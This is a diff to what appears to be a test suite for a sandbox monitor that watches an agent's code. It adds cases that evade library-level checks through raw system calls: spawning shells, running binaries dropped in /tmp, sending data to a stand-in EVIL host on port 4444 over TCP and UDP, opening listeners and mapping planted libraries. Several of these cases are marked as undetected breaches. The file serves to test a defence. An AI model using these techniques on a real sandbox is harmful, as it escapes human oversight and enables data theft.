@@ -350,6 +350,53 @@ won = opened >= 0 and b'AWS_SECRET' in os.read(opened, 1 << 16)
 """),
 ]
 
+# What native code does past the library. It gets through, and the agent finds what stays for some milliseconds.
+NATIVE = [
+    case("native-exec", REPORTED, "a shell, by a system call of one's own; it is still there at the end", """
+won = os.read(native_exec(['/bin/sh', '-c', 'echo pwned; kill -STOP $$']), 10) == b'pwned\\n'
+""", rule="process.shells"),
+    case("native-exec-that-takes-long", STOPPED, "the same with a command that takes three seconds",
+         "won = os.read(native_exec(['/bin/sh', '-c', '/bin/sleep 3; echo pwned']), 10) == b'pwned\\n'", rule="process.shells"),
+    case("native-exec-that-is-quick", BREACH, "the same with a command that takes a millisecond",
+         "won = os.read(native_exec(SHELL), 10) == b'pwned\\n'"),
+    case("native-exec-static", REPORTED, "a static program in /tmp, started by a system call of one's own",
+         "won = os.read(native_exec([write('/tmp/stays', STATIC_STAYS)]), 10) == b'pwned'", rule="process.from_writable"),
+    case("native-connection", REPORTED, "a connection by a system call of one's own", """
+call, number = native_socket((EVIL, 4444))
+os.write(number, mark.encode())
+""", rule="egress.allow"),
+    case("native-connection-closed", REPORTED, "the same, closed again at once", """
+call, number = native_socket((EVIL, 4444))
+os.write(number, mark.encode()); os.close(number)
+""", rule="egress.allow"),
+    case("native-connection-of-a-fork", REPORTED, "the same by a fork that stays", """
+reader, writer = os.pipe()
+if os.fork() == 0:
+    call, number = native_socket((EVIL, 4444))
+    os.write(number, mark.encode()); os.write(writer, b'sent'); time.sleep(30); os._exit(0)
+os.read(reader, 4)
+""", rule="egress.allow"),
+    case("native-datagram", BREACH, "a datagram by a system call of one's own: it leaves nothing behind", """
+call = native()
+to = ctypes.create_string_buffer(struct.pack('!2sH4s8x', struct.pack('=H', 2), 9999, socket.inet_aton(EVIL)), 16)
+call(44, call(41, 2, 2, 0), ctypes.create_string_buffer(mark.encode()), len(mark), 0, to, 16)
+"""),
+    case("native-runtime-api", REPORTED, "a second connection to the Runtime API by a system call of one's own", """
+host, port = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')
+won = native_socket((host, int(port)))[1] >= 0
+""", rule="egress.runtime_api", alone=True),
+    case("native-listener", REPORTED, "a listener for everybody by system calls of one's own", """
+call = native()
+number = call(41, 2, 1, 0)
+anywhere = ctypes.create_string_buffer(struct.pack('!2sH4s8x', struct.pack('=H', 2), 8089, bytes(4)), 16)
+won = call(49, number, anywhere, 16) == 0 and call(50, number, 8) == 0
+""", rule="egress.listen"),
+    case("native-mapping", REPORTED, "a library in /tmp mapped by a system call of one's own", """
+file = os.open(write('/tmp/plant.so', open('/var/task/plant.bin', 'rb').read()), os.O_RDONLY)
+won = native()(9, 0, 4096, 5, 2, file, 0) > 0
+""", rule="process.from_writable"),
+]
+
 READS = [
     *[case(f"environ-{name}", STOPPED, what, f"""
 try: won = b'AWS_SECRET' in ({code})
@@ -818,4 +865,4 @@ said = [data.decode(), len(descriptors), got.decode(), udp.recv(10).decode(), so
 """),
 ]
 
-CASES = [*EXEC, *CODE, *READS, *SEND, *PLATFORM, *SELF, *PROGRAMS]
+CASES = [*EXEC, *CODE, *NATIVE, *READS, *SEND, *PLATFORM, *SELF, *PROGRAMS]
